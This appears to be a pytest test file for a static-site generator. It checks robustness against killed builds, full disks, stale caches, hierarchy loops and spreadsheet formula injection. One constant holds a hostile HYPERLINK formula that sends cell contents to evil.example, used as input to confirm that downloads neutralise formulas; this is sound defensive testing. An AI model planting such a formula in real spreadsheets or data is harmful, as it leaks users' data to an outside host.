"""A build that is killed, a full disk, a stale cache, hostile cells: nothing hangs, lingers or arms a download."""
import io
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from conftest import REPO, fixture_project, read_csv, write_csv

from generator.build import BuildOptions, _mkdocs_failure, build_site
from generator.cli import main
from generator.downloads import LEADING_COLUMNS, TRAILING_COLUMNS, inert, observations_xlsx
from generator.write import remove_stale_staging

DEADLINE = 120  # seconds a poll may wait for a process to appear or go; the tests never sleep for a fixed time
OBS = "datasets/demo/data/observations.csv"
HOSTILE_QUOTE = '=HYPERLINK("http://evil.example/?"&A1,"4222 click")'


def children(pid: int) -> list[int]:
    """Every descendant of a process, from /proc."""
    found, todo = [], [pid]
    while todo:
        parent = todo.pop()
        for stat in Path("/proc").glob("[0-9]*/stat"):
            try:
                fields = stat.read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == parent:
                found.append(int(stat.parent.name))
                todo.append(int(stat.parent.name))
    return found


def running(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state not in ("Z", "X")  # a zombie has ended; only its exit status waits to be collected


def cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def poll(condition, what: str):
    """Wait until condition() is truthy (returning it), failing after DEADLINE: no fixed sleeps."""
    started = time.monotonic()
    while time.monotonic() - started < DEADLINE:
        result = condition()
        if result:
            return result
        time.sleep(0.02)
    pytest.fail(f"gave up waiting for {what}")


def test_text_that_starts_a_formula_is_neutralised_but_numbers_stay():
    assert inert("=1+1") == "'=1+1" and inert("@SUM(A1)") == "'@SUM(A1)" and inert("+86 23") == "'+86 23"
    assert inert("-x") == "'-x" and inert("\tx") == "'\tx" and inert("\rx") == "'\rx"
    assert inert("-5") == "-5" and inert("-1.5") == "-1.5" and inert("4222") == "4222" and inert(3.5) == 3.5
    assert inert("高新技术企业") == "高新技术企业"


def test_a_csv_frame_is_made_inert_in_every_text_cell_that_would_start_a_formula():
    from generator.downloads import inert_frame
    frame = pd.DataFrame({"quote": ["=1+1", "达到4222家", None, "-3", "-x", "=1+1"], "value": [1.0, 2, 3, 4, 5, 6],
                          "note": pd.array(["+86 23", "说明", None, "", "@a", "\tb"], dtype="string")},
                         index=[7, 7, 1, 2, 3, 4])  # a repeated label: cells are set by position
    assert inert_frame(frame).to_csv() == frame.map(inert).to_csv()
    texts = [v if isinstance(v, str) else None for v in inert_frame(frame)["quote"]]  # a missing cell stays missing
    assert texts == ["'=1+1", "达到4222家", None, "-3", "'-x", "'=1+1"]
    plain = frame.iloc[[1]]
    assert inert_frame(plain) is plain  # nothing to change: the same frame, not a copy


def test_xlsx_text_cells_are_never_formulas():
    columns = LEADING_COLUMNS + ["quote", "note"] + TRAILING_COLUMNS
    frame = pd.DataFrame([{c: f"={c}()" for c in columns} | {"value_number": 1.0, "value_base": 1.0, "value_printed": "1",
                                                                    "unit_printed_symbol": "=SYMBOL()"}])
    workbook = openpyxl.load_workbook(io.BytesIO(observations_xlsx(frame, columns, "=TITLE()", ["=NOTE()"])))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "=quote()" for c in cells)  # the text itself is kept


def test_a_truncated_vega_bundle_is_not_reused_and_one_is_made_in_its_own_process(tmp_path):
    from generator import vega_bundle

    layout = fixture_project(tmp_path / "project")
    made = vega_bundle.Bundle(layout.site_src, layout.cache)
    assert made.process is not None  # none in site_src/ yet: a process makes it
    bundle = made.result()
    assert made.process.returncode == 0 and vega_bundle.unseal(bundle) is not None
    assert bundle == vega_bundle.make() and not list(layout.cache.glob(".vega-bundle-*"))
    path = layout.site_src / vega_bundle.PATH
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(bundle[: len(bundle) // 2])  # a kill or a full disk mid-write: the header is intact
    assert vega_bundle.reusable(layout.site_src) is None
    path.write_bytes(bundle)
    again = vega_bundle.Bundle(layout.site_src, layout.cache)
    assert again.process is None and again.result() == bundle  # intact and made by this vl-convert: reused


def test_mkdocs_crash_is_reported_without_a_traceback():
    output = ("INFO    -  Building documentation...\nTraceback (most recent call last):\n  File \"x.py\", line 1\n"
              "    write()\nOSError: [Errno 28] No space left on device: 'site/index.html'\n")
    text = _mkdocs_failure(output)
    assert "Traceback" not in text and "No space left on device" in text and "磁盘已满" in text
    assert _mkdocs_failure("WARNING -  Doc file 'a.md' contains a link 'b.md'") == "WARNING -  Doc file 'a.md' contains a link 'b.md'"


def test_a_folder_that_cannot_be_written_is_reported_without_a_traceback(tmp_path, capsys):
    layout = fixture_project(tmp_path / "project")
    (layout.site_src / "indicators").write_text("a file where a folder belongs", encoding="utf-8")
    assert main(["--root", str(layout.root), "generate"]) == 1
    err = capsys.readouterr().err
    assert "无法写入" in err and "Traceback" not in err


def test_stale_staging_folders_are_removed_but_a_running_builds_is_kept(tmp_path):
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    stale = [tmp_path / f".site-{dead.stdout.strip()}-abc", tmp_path / ".site-old_format"]
    live = tmp_path / f".site-{os.getpid()}-xyz"
    for folder in stale + [live]:
        (folder / "assets").mkdir(parents=True)
    assert remove_stale_staging(tmp_path) == sorted(stale)
    assert live.is_dir()


def test_chart_workers_die_with_their_parent(tmp_path):
    script = (
        "from generator.charts import render_all\n"
        "spec = '{\"$schema\":\"https://vega.github.io/schema/vega-lite/v5.json\",\"data\":{\"values\":[{\"a\":%d}]},"
        "\"mark\":\"point\",\"encoding\":{\"x\":{\"field\":\"a\",\"type\":\"quantitative\"}}}'\n"
        "render_all({str(i): spec % i for i in range(400)}, with_png=True)\n")
    process = subprocess.Popen([sys.executable, "-c", script], cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)})
    try:
        workers = poll(lambda: [p for p in children(process.pid) if "multiprocessing" in cmdline(p)], "chart workers")
        os.kill(process.pid, signal.SIGKILL)
        process.wait()
        poll(lambda: not any(running(p) for p in workers), "the workers to end with their parent")
    finally:
        process.kill()


@pytest.mark.slow
def test_a_killed_build_leaves_the_old_site_and_no_staging_folder_or_orphan(tmp_path):
    layout = fixture_project(tmp_path / "project")
    assert build_site(layout, BuildOptions()).report.ok
    before = {p: p.read_bytes() for p in layout.site.rglob("*") if p.is_file()}
    rows = read_csv(layout.root / OBS)
    rows[0]["note"] = "改动一处说明，使下一次构建必须重新生成并运行 MkDocs"  # an unchanged project is not rebuilt
    write_csv(layout.root / OBS, rows)
    process = subprocess.Popen([sys.executable, "-m", "generator", "--root", str(layout.root), "build"],
                               cwd=layout.root, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                               env={**os.environ, "PYTHONPATH": str(layout.root)})
    try:
        mkdocs = poll(lambda: [p for p in children(process.pid) if "mkdocs" in cmdline(p)], "MkDocs to start")
        poll(lambda: list(layout.root.glob(f".site-{process.pid}-*")), "the staging folder")
        os.kill(process.pid, signal.SIGKILL)
        process.wait()
        poll(lambda: not any(running(p) for p in mkdocs), "MkDocs to end with its parent")
    finally:
        process.kill()
    assert {p: p.read_bytes() for p in layout.site.rglob("*") if p.is_file()} == before  # the old site is whole
    assert build_site(layout, BuildOptions()).report.ok
    assert not list(layout.root.glob(".site-*"))  # the killed build's staging folder was removed


@pytest.mark.slow
def test_the_built_site_is_readable_by_others(built_site):
    assert built_site.site.stat().st_mode & 0o777 == 0o755
    modes = {(p.is_dir(), p.stat().st_mode & 0o777) for p in built_site.site.rglob("*")}
    assert modes == {(True, 0o755), (False, 0o644)}


@pytest.mark.slow
def test_downloads_hold_no_live_formula(tmp_path):
    layout = fixture_project(tmp_path / "project")
    rows = read_csv(layout.root / OBS)
    rows[0]["quote"], rows[0]["note"] = HOSTILE_QUOTE, "@说明：以@开头的说明（表格软件会当作公式）"
    write_csv(layout.root / OBS, rows)
    assert build_site(layout, BuildOptions()).report.ok
    downloads = layout.site / "downloads"
    workbooks = sorted(downloads.rglob("*.xlsx"))
    assert workbooks
    for path in workbooks:
        workbook = openpyxl.load_workbook(path)
        cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], path
    sheet = openpyxl.load_workbook(downloads / "observations.xlsx").active
    assert any(c.value == HOSTILE_QUOTE for row in sheet.iter_rows() for c in row)  # kept, as text
    for path in [downloads / "observations.csv", *sorted((downloads / "indicators").glob("*.csv"))]:
        for row in read_csv(path):
            assert not any(cell.startswith(("=", "+", "@")) for cell in row.values()), path
    quoted = {r["quote"] for r in read_csv(downloads / "observations.csv")}
    assert "'" + HOSTILE_QUOTE in quoted
    package = read_csv(downloads / "packages/demo/data/observations.csv")  # the data package keeps the raw text
    assert HOSTILE_QUOTE in {r["quote"] for r in package}


def test_contributing_gives_validate_commands_that_work_in_a_normal_shell_and_in_powershell():
    text = (REPO / "CONTRIBUTING.md").read_text(encoding="utf-8")
    assert "make validate" in text and ".venv/bin/python -m generator validate" in text
    assert ".venv\\Scripts\\python -m generator validate" in text
    assert "--require-hashes -r requirements.lock" in text
    makefile = (REPO / "Makefile").read_text(encoding="utf-8")
    assert "validate: $(STAMP)\n\t$(BIN)/python -m generator validate" in makefile


@pytest.mark.slow
def test_footer_labels_are_escaped_once(built_site):
    doubled = [p for p in built_site.site.rglob("*.html") if "&amp;quot;" in p.read_text(encoding="utf-8")]
    assert not doubled, doubled[:5]


def test_walking_a_looping_hierarchy_ends():
    from generator.model import SiteModel
    entities = pd.DataFrame({"id": ["china", "chongqing", "district"], "parent": ["chongqing", "china", "chongqing"]},
                            index=["china", "chongqing", "district"])
    model = SiteModel(None, None, entities, None, None, None, ())
    assert sorted(model.entity_and_descendants("china")) == ["china", "chongqing", "district"]
    assert model.ancestors("district") in (["china", "chongqing"], ["chongqing", "china"])


@pytest.mark.parametrize("command", ["validate", "build"])
def test_a_loop_in_the_place_hierarchy_is_reported_not_hung_on(tmp_path, command):
    layout = fixture_project(tmp_path / "project", "invalid/place-hierarchy-loop")
    done = subprocess.run([sys.executable, "-m", "generator", "--root", str(layout.root), command],
                          capture_output=True, text=True, timeout=300, env={**os.environ, "PYTHONPATH": str(layout.root)})
    assert done.returncode == 1
    assert "Traceback" not in done.stdout + done.stderr
    assert any(line.startswith("schemas/codelists/entities.csv:2:parent: ") and "china → chongqing → china" in line
               for line in done.stdout.splitlines()), done.stdout
